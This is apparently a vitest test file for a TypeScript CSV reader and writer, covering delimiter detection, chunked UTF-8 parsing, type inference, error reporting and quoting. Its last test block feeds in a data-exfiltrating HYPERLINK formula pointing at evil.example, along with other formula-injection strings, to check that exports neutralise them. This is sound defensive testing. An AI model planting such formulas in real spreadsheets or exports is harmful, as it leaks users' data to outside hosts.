import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  categoricalFromStrings,
  cellText,
  datasetFromColumns,
  numericFromValues,
  type Dataset,
} from '../dataset';
import { loadReferenceCsv } from '../test-support/reference-data';
import {
  CsvReader,
  csvChunks,
  parseNumber,
  readCsv,
  readCsvBytes,
  readCsvText,
  restoreFormula,
  writeCsv,
  writeCsvRows,
} from './index';

const enc = new TextEncoder();

function ok(r: ReturnType<typeof readCsvText>): Dataset {
  if (!r.ok) throw new Error(r.error.message);
  return r.dataset;
}
function texts(ds: Dataset, name: string): (string | null)[] {
  const col = ds.columns.find((c) => c.name === name)!;
  return Array.from({ length: ds.rowCount }, (_, r) => cellText(col, r));
}
/** Feeds bytes in chunks of `size` (splitting multi-byte characters, quotes and CRLF). */
function chunked(bytes: Uint8Array, size: number): ReturnType<typeof readCsvBytes> {
  const reader = new CsvReader({ file: 'x.csv' });
  for (let i = 0; i < bytes.length; i += size) reader.push(bytes.subarray(i, i + size));
  return reader.finish();
}

describe('readCsv: format', () => {
  it.each([
    [',', 'a,b,c\n1,x,3\n'],
    [';', 'a;b;c\n1;x;3\n'],
    ['\t', 'a\tb\tc\n1\tx\t3\n'],
    ['|', 'a|b|c\n1|x|3\n'],
  ])('detects the delimiter %j', (d, text) => {
    const r = readCsvText(text);
    expect(r.ok && r.delimiter).toBe(d);
    expect(ok(r).columns.map((c) => c.name)).toEqual(['a', 'b', 'c']);
  });
  it('prefers the delimiter that splits consistently (commas inside ; data)', () => {
    const r = readCsvText('name;amount\n"Diallo, A";1,5\n"Silva, B";2,5\n');
    expect(r.ok && r.delimiter).toBe(';');
    expect(texts(ok(r), 'name')).toEqual(['Diallo, A', 'Silva, B']);
    expect(texts(ok(r), 'amount')).toEqual(['1,5', '2,5']); // decimal comma stays text
  });
  it('quoted fields with delimiters, doubled quotes and embedded newlines; line numbers stay physical', () => {
    const text = 'id,comment\r\n1,"he said ""hi"", then left"\r\n2,"two\nlines"\r\n3,plain\r\n4,"x",\n';
    const r = readCsvText(text, { file: 't.csv' });
    expect(r).toMatchObject({ ok: false, error: { code: 'ragged-rows', lines: [6], count: 1 } });
    const good = ok(readCsvText(text.replace('4,"x",\n', '4,"x"\n')));
    expect(texts(good, 'comment')).toEqual(['he said "hi", then left', 'two\nlines', 'plain', 'x']);
  });
  it('skips a UTF-8 BOM and reads accents, Arabic and emoji', () => {
    const bytes = new Uint8Array([0xef, 0xbb, 0xbf, ...enc.encode('nom,ville\nZoë,الرباط\nJoão,😀\n')]);
    const ds = ok(readCsvBytes(bytes));
    expect(ds.columns[0]!.name).toBe('nom');
    expect(texts(ds, 'ville')).toEqual(['الرباط', '😀']);
  });
  it('gives the same result whatever the chunk boundaries', () => {
    const text = '\ufeffa;b;c\r\n"x;""y""\r\nz";é€😀;1.5\r\n"";;-2e3\r\nlast;"q";7';
    const whole = ok(readCsvText(text));
    for (const size of [1, 2, 3, 5, 7, 64]) {
      const r = chunked(enc.encode(text), size);
      const ds = ok(r);
      for (const col of whole.columns) expect(texts(ds, col.name)).toEqual(texts(whole, col.name));
    }
    expect(texts(whole, 'a')).toEqual(['x;"y"\r\nz', null, 'last']);
    expect(texts(whole, 'c')).toEqual(['1.5', '-2000', '7']);
  });
  it('detects the delimiter on exactly the first 64 Ki characters, whatever the chunks (BOM, U+FEFF later, ASCII and not)', () => {
    // ',' and ';' split every line in two, except the line ending at the sample's last character,
    // which has three ',' fields: counted (sample ends on its line feed), ';' wins; one character
    // later, it is not counted and ',' wins. A BOM is not a character of the sample; a U+FEFF later
    // in the file is, even at the start of a chunk; the first chunks may be ASCII, later ones not.
    const file = (bom: boolean, shift: number): { bytes: Uint8Array; feff: number } => {
      const lines = ['h1,h2;h3', '\ufeffé,b;c'];
      for (let i = 0; i < 17; i++) lines.push(`${'x'.repeat(3000)}${i % 3 === 0 ? '日本😀' : ''},b;c`);
      const before = lines.join('\n').length + 1;
      lines.push(`${'y'.repeat(65_536 + shift - before - 7)},b,c;d`);
      const text = lines.join('\n') + '\n' + '1,2;3\n'.repeat(50);
      const bytes = enc.encode((bom ? '\ufeff' : '') + text);
      return { bytes, feff: enc.encode((bom ? '\ufeff' : '') + 'h1,h2;h3\n').length };
    };
    for (const bom of [false, true])
      for (const [shift, expected] of [
        [0, ';'],
        [1, ','],
      ] as const) {
        const { bytes, feff } = file(bom, shift);
        const sizes = [997, 4096, 65_535, 65_536, 65_537, bytes.length];
        const splits = [
          ...sizes.map((n) => Array.from({ length: Math.ceil(bytes.length / n) }, (_, i) => i * n)),
          [0, feff],
        ];
        for (const starts of splits) {
          const reader = new CsvReader();
          for (let i = 0; i < starts.length; i++)
            reader.push(bytes.subarray(starts[i], starts[i + 1] ?? bytes.length));
          reader.finish();
          expect(
            reader.detectedDelimiter,
            `bom ${bom}, shift ${shift}, chunks at ${starts.slice(0, 3).join(',')}…`,
          ).toBe(expected);
        }
      }
  });
  it('ignores blank lines and a missing final newline; trailing delimiter at EOF is an empty field', () => {
    const ds = ok(readCsvText('a,b\n\n1,2\n\n3,\n'));
    expect(ds.rowCount).toBe(2);
    expect(texts(ds, 'b')).toEqual(['2', null]);
    expect(ok(readCsvText('a,b\n1,2')).rowCount).toBe(1);
  });
  it('reads from async chunk sources and web ReadableStreams', async () => {
    const bytes = enc.encode('a,b\n1,2\n3,4\n');
    async function* gen() {
      yield bytes.subarray(0, 5);
      yield bytes.subarray(5);
    }
    expect((await readCsv(gen())).ok).toBe(true);
    const stream = new ReadableStream<Uint8Array>({
      start(c) {
        c.enqueue(bytes);
        c.close();
      },
    });
    const r = await readCsv(stream);
    expect(r.ok && r.dataset.rowCount).toBe(2);
  });
});

describe('readCsv: types', () => {
  it('numeric when every non-empty value is a number; otherwise text with every original spelling kept', () => {
    const ds = ok(
      readCsvText('n,mixed,lead,na\n1,1.50,007,1\n2.5,x,12,NA\n,-0,,3\n-1e3,3,5,\n', { naStrings: ['NA'] }),
    );
    expect(ds.columns.map((c) => c.kind)).toEqual(['numeric', 'categorical', 'categorical', 'numeric']);
    expect(texts(ds, 'n')).toEqual(['1', '2.5', null, '-1000']);
    expect(texts(ds, 'mixed')).toEqual(['1.50', 'x', '-0', '3']);
    expect(texts(ds, 'lead')).toEqual(['007', '12', null, '5']);
    expect(texts(ds, 'na')).toEqual(['1', null, '3', null]);
  });
  it('a column switching to text late keeps every earlier value', () => {
    const lines = ['v'];
    for (let i = 0; i < 5000; i++) lines.push(String(i % 7 === 0 ? `${i}.0` : i));
    lines.push('later text');
    const ds = ok(readCsvText(lines.join('\n')));
    const v = texts(ds, 'v');
    expect(ds.columns[0]!.kind).toBe('categorical');
    expect(v[7]).toBe('7.0');
    expect(v[8]).toBe('8');
    expect(v[5000]).toBe('later text');
  });
  it('an all-empty column is categorical with no levels', () => {
    const ds = ok(readCsvText('a,b\n1,\n2,\n'));
    expect(ds.columns[1]).toMatchObject({ kind: 'categorical', levels: [] });
  });
});

describe('readCsv: errors as values', () => {
  it('empty file, whitespace-only and header-only', () => {
    expect(readCsvBytes(new Uint8Array(0), { file: 'e.csv' })).toMatchObject({
      ok: false,
      error: { code: 'empty-file', file: 'e.csv' },
    });
    expect(readCsvText('\n\n')).toMatchObject({ ok: false, error: { code: 'empty-file' } });
    const r = readCsvText('a,b\n');
    expect(r).toMatchObject({ ok: false, error: { code: 'empty-file' } });
    expect(!r.ok && r.error.message).toContain('no data rows');
  });
  it('ragged rows: first five line numbers and the total count', () => {
    const rows = ['a,b,c'];
    for (let i = 2; i <= 20; i++) rows.push(i % 3 === 0 ? '1,2' : '1,2,3');
    const r = readCsvText(rows.join('\n'), { file: 'r.csv' });
    expect(r).toMatchObject({
      ok: false,
      error: { code: 'ragged-rows', lines: [3, 6, 9, 12, 15], count: 6, line: 3 },
    });
    expect(!r.ok && r.error.message).toMatch(/r\.csv.*6 row.*header's 3.*3, 6, 9, 12, 15, …/);
  });
  it('invalid UTF-8 (Latin-1 bytes) names the line', () => {
    const bytes = new Uint8Array([...enc.encode('nom\nabc\nJos'), 0xe9, ...enc.encode('\n')]);
    const r = readCsvBytes(bytes, { file: 'latin1.csv' });
    expect(r).toMatchObject({ ok: false, error: { code: 'encoding', line: 3, byteOffset: 11 } });
    expect(!r.ok && r.error.message).toMatch(/latin1\.csv.*not valid UTF-8.*0xE9.*line 3.*Latin-1/);
    expect(chunked(bytes, 4)).toMatchObject({ ok: false, error: { code: 'encoding', line: 3 } });
  });
  it('invalid UTF-8 far after the header, in any chunking: its line and byte offset (quoted line feeds and CRLF counted)', () => {
    // Past the 64 Ki-character delimiter sample, with lines counted from the parser's position.
    const lines = ['id,note'];
    for (let i = 2; i <= 6000; i++) lines.push(i % 10 === 0 ? `${i},"two\nlines"` : `${i},n${i % 7}`);
    const head = enc.encode(lines.join('\r\n') + '\r\nbad,caf');
    const bytes = new Uint8Array([...head, 0xe9, ...enc.encode('\r\n1,2\r\n')]);
    // Each "two\nlines" cell adds a line.
    const line = 6000 + 600 + 1;
    for (const size of [bytes.length, 1 << 16, 4099, 977]) {
      expect(chunked(bytes, size), `chunks of ${size}`).toMatchObject({
        ok: false,
        error: { code: 'encoding', line, byteOffset: head.length },
      });
    }
  });
  it('UTF-16 (with BOM or NUL bytes) and ZIP files are rejected', () => {
    const utf16 = new Uint8Array([0xff, 0xfe, 0x61, 0x00, 0x0a, 0x00]);
    const r = readCsvBytes(utf16);
    expect(r).toMatchObject({ ok: false, error: { code: 'encoding' } });
    expect(!r.ok && r.error.message).toContain('UTF-16');
    expect(readCsvBytes(new Uint8Array([0x61, 0x00, 0x2c, 0x00, 0x62, 0x00]))).toMatchObject({
      ok: false,
      error: { code: 'encoding' },
    });
    const zip = readCsvBytes(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1, 2, 3]));
    expect(!zip.ok && zip.error.message).toContain('ZIP');
  });
  it('unterminated quote and duplicate header', () => {
    expect(readCsvText('a,b\n1,"open\n2,3\n')).toMatchObject({
      ok: false,
      error: { code: 'unterminated-quote', line: 2, column: 2 },
    });
    expect(readCsvText('a,b,a\n1,2,3\n')).toMatchObject({
      ok: false,
      error: { code: 'duplicate-header', column: 'a' },
    });
  });
});

describe('writeCsv', () => {
  it('quotes only what RFC 4180 requires and round-trips', () => {
    const ds = datasetFromColumns([
      categoricalFromStrings('a,b', ['x', 'y"z', 'multi\nline', '', ' pad ']),
      numericFromValues('n', [1, null, -2.5, 1e21, 0.1]),
    ]);
    const text = writeCsv(ds);
    expect(text.split('\r\n')[0]).toBe('"a,b",n');
    expect(text).toContain('"y""z",\r\n');
    const back = ok(readCsvText(text));
    for (const col of ds.columns) expect(texts(back, col.name)).toEqual(texts(ds, col.name));
    expect(writeCsv(ds, { delimiter: ';', newline: '\n' }).split('\n')[0]).toBe('a,b;n');
  });
  it('quoteEdgeSpace also quotes fields that start or end with white space', () => {
    const ds = datasetFromColumns([categoricalFromStrings(' a', ['x', ' pad', 'pad\t', 'in side', ''])]);
    expect(writeCsv(ds, { newline: '\n' })).toBe(' a\nx\n pad\npad\t\nin side\n\n');
    const text = writeCsv(ds, { newline: '\n', quoteEdgeSpace: true });
    expect(text).toBe('" a"\nx\n" pad"\n"pad\t"\nin side\n\n');
    expect([...csvChunks(ds, { newline: '\n', quoteEdgeSpace: true, rowsPerChunk: 2 })].join('')).toBe(text);
    // The reader keeps the quoted white space (a blank last line is no row).
    expect(texts(ok(readCsvText(text)), 'a')).toEqual(texts(ds, ' a').slice(0, 4));
  });
  it('writeCsvRows writes rows of text with the same quoting', () => {
    const rows = [
      ['code', 'label'],
      ['A', 'x,y'],
      ['B', ' edge'],
    ];
    expect(writeCsvRows(rows)).toBe('code,label\r\nA,"x,y"\r\nB, edge\r\n');
    expect(writeCsvRows(rows, { newline: '\n', quoteEdgeSpace: true, delimiter: ';' })).toBe(
      'code;label\nA;x,y\nB;" edge"\n',
    );
    expect(writeCsvRows([])).toBe('');
  });
  it('round-trips arbitrary text cells (property)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 2 }), {
          minLength: 1,
          maxLength: 20,
        }),
        (rows) => {
          const ds = datasetFromColumns([
            categoricalFromStrings(
              'x',
              rows.map((r) => r[0]!),
            ),
            categoricalFromStrings(
              'y',
              rows.map((r) => r[1]!),
            ),
          ]);
          const back = readCsvText(writeCsv(ds), { delimiter: ',' });
          // A row of only empty cells is written as "," and read back as a row of missing values.
          if (!back.ok) {
            expect(back.error.code).toBe('empty-file');
            return;
          }
          const norm = (v: string | null) => {
            if (v === null || v.trim() === '') return null;
            const n = parseNumber(v);
            return n === null ? v : String(n);
          };
          // Formula-like text was neutralised on writing; restoreFormula undoes it exactly.
          const read = (name: string) =>
            texts(back.dataset, name).map((v) => (v === null ? v : restoreFormula(v)));
          expect(read('x').map(norm)).toEqual(texts(ds, 'x').map(norm));
          expect(read('y').map(norm)).toEqual(texts(ds, 'y').map(norm));
        },
      ),
      { numRuns: 200 },
    );
  });
  it('the reference file free1 survives write → read exactly', () => {
    const ds = loadReferenceCsv('free1.csv');
    const back = ok(readCsvText(writeCsv(ds)));
    expect(back.rowCount).toBe(4000);
    for (const col of ds.columns) expect(texts(back, col.name)).toEqual(texts(ds, col.name));
  });
});

describe('CSV exports carry live formulas (issue 7 §4): every core CSV writer neutralises them', () => {
  const evil = '=HYPERLINK("http://evil.example/?d="&B2,"Click")';
  const cells = [evil, '+1+2', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd', "'quoted", 'plain', '-5', '-1.5e3'];
  const expected = [
    `'${evil}`,
    "'+1+2",
    "'-2+3",
    "'@SUM(A1)",
    "'\tcmd",
    "'\rcmd",
    "''quoted",
    'plain',
    '-5',
    '-1.5e3',
  ];

  it('writeCsv and csvChunks prefix formula-like text with an apostrophe; numbers stay numbers', () => {
    const ds = datasetFromColumns([
      categoricalFromStrings('title', cells),
      numericFromValues(
        'n',
        cells.map((_, i) => -i),
      ),
    ]);
    for (const text of [
      writeCsv(ds, { newline: '\n' }),
      [...csvChunks(ds, { newline: '\n', rowsPerChunk: 3 })].join(''),
    ]) {
      const back = ok(readCsvText(text, { delimiter: ',' }));
      expect(texts(back, 'title')).toEqual(expected);
      expect(texts(back, 'n')).toEqual(cells.map((_, i) => String(-i)));
      // No line of the file starts a cell with a formula character.
      for (const line of text.split('\n').slice(1)) expect(line).not.toMatch(/^"?[=+@]/);
      // And Steward reading its own file back gets the original text.
      expect(texts(back, 'title').map((v) => restoreFormula(v!))).toEqual(cells);
    }
  });
  it('writeCsvRows neutralises every cell, the header included', () => {
    const text = writeCsvRows([['=cmd', 'b'], ...cells.map((c) => [c, 'x'])], { newline: '\n' });
    const back = ok(readCsvText(text, { delimiter: ',' }));
    expect(back.columns[0]!.name).toBe("'=cmd");
    expect(texts(back, "'=cmd")).toEqual(expected);
  });
  it('formulaGuard: false writes the text as it is (for programs, never for people)', () => {
    expect(writeCsvRows([['=1+1']], { formulaGuard: false, newline: '\n' })).toBe('=1+1\n');
  });
});
